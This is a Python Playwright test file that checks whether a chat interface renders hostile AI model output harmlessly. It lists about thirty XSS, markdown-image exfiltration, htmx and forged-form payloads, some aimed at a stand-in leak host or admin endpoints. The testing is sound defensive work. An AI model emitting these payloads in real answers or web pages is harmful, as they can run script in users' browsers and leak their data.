"""What a model says is shown, and does nothing."""

import pytest
from playwright.async_api import expect

from tests.model_server import Script
from tests.prove.browser.person import PATIENCE, Person
from tests.prove.browser.site import Site
from tests.prove.browser.watched import violations

ELSEWHERE = "http://127.0.0.2:9"  # nobody is there; the page must not even try
HOSTILE = (
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1'>",
    f"<img src='{ELSEWHERE}/pixel.png'>",
    f"![a picture]({ELSEWHERE}/leak?q=secret)",
    f"![by reference][leak]\n\n[leak]: {ELSEWHERE}/reference.png",
    "<svg onload='window.ran = 1'><animate onbegin='window.ran = 1' dur=1s /></svg>",
    f"<svg><image href='{ELSEWHERE}/svg.png' /></svg>",
    f"<iframe src='{ELSEWHERE}/frame' srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "[click me](javascript:window.ran=1)",
    "[click me too](JaVaScRiPt&colon;window.ran=1)",
    "[data](data:text/html,<script>alert(1)</script>)",
    "<a href='javascript:window.ran=1'>a link</a>",
    f"<div hx-get='{ELSEWHERE}/hx' hx-trigger='load'>hx</div>",
    "<div data-hx-get='/_admin/keys' data-hx-trigger='load' hx-on:load='window.ran = 1'>hx</div>",
    f"<div hx-ext='sse' sse-connect='{ELSEWHERE}/sse' sse-swap='x'>sse</div>",
    "<form action='/_admin/sign-out' method='post'><button>Sign out</button></form>",
    f"<style>@import '{ELSEWHERE}/style.css'; body {{ display: none }}</style>",
    f"<div style=\"background: url('{ELSEWHERE}/background')\">styled</div>",
    "<div id='stream'>taken</div><div id='conversation'>taken too</div>",
    "<template shadowrootmode=open><script>window.ran = 1</script></template>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<meta http-equiv=refresh content='0;url=/_admin/keys'><base href='//example.invalid/'>",
    "<input autofocus onfocus='window.ran = 1'><details open ontoggle='window.ran = 1'>",
    "```html\n<script>window.ran = 1</script>\n```",
    "`<img src=x onerror=window.ran=1>`",
    "<!--> <script>window.ran = 1</script> -->",
    "| a | b |\n|---|---|\n| <script>window.ran=1</script> | ![x](//example.invalid/x.png) |",
    "data: x\n\nevent: reset\ndata: <script>window.ran = 1</script>\n\n",
)
END = "The end of it."
FORBIDDEN = (
    "script, img, iframe, style, svg, form, input, base, meta, object, embed, video, audio, "
    "[hx-get], [data-hx-get], [hx-ext], [onerror], [onload], [style]"
)


async def _is_harmless(person: Person) -> None:
    """Nothing ran, nothing was fetched, nothing was stopped that had been let in before."""
    assert await person.page.evaluate("window.ran") is None
    assert not await violations(person.page)
    inside = f"#conversation [id^=answer-] .prose :is({FORBIDDEN})"
    assert await person.page.locator(inside).count() == 0
    hrefs: list[str] = await person.page.eval_on_selector_all(
        "#conversation [id^=answer-] a", "links => links.map((link) => link.protocol)"
    )
    assert set(hrefs) <= {"http:", "https:", "mailto:"}
    assert await person.page.locator("#conversation").count() == 1
    await person.is_clean()


@pytest.mark.parametrize("gap_seconds", [0.0, 0.02])
async def test_hostile_answers_stay_words(person: Person, gap_seconds: float) -> None:
    await person.begin(text="\n\n".join([*HOSTILE, END]), gap_seconds=gap_seconds)
    await person.wait_for_word(END)
    await person.wait_for_end()
    await _is_harmless(person)
    await person.shows_the_log()
    await person.page.reload()
    await person.wait_for_word(END)
    await _is_harmless(person)


async def test_hostile_messages_titles_and_tools_stay_words(person: Person) -> None:
    evil = "<img src=x onerror='window.ran = 1'><script>window.ran = 1</script>"
    await person.begin(evil, calls=[["look", {"at": evil}]], then={"text": END})
    await person.wait_for_word(END)
    await person.wait_for_end()
    assert await person.page.evaluate("window.ran") is None
    await expect(person.conversation).to_contain_text("onerror")
    await person.open("/_admin/chat")
    assert await person.page.evaluate("window.ran") is None
    await person.is_clean()


async def test_a_long_answer_stays_smooth(person: Person, site: Site) -> None:
    """200 kB; a page that is busy for longer than a blink would feel stuck."""
    await person.begin(words=2)
    await person.wait_for_end()
    await person.page.evaluate(LONGEST_TASK)
    line = "Words-of-a-long-answer, **some-of-them-emphasised** and `some-of-them-code`.\n\n"
    site.provider.next.append(Script(text=line * (200_000 // len(line)) + END))
    await person.say("At length, please")
    await expect(person.answer).to_contain_text(END, timeout=3 * PATIENCE)
    await person.wait_for_end()
    longest: float = await person.page.evaluate("window.longestTask")
    assert longest < 1000, f"the page stood still for {longest} ms"
    await person.shows_the_log()


LONGEST_TASK = """
window.longestTask = 0;
new PerformanceObserver((list) => {
  for (const task of list.getEntries()) {
    window.longestTask = Math.max(window.longestTask, task.duration);
  }
}).observe({type: "longtask"});
"""
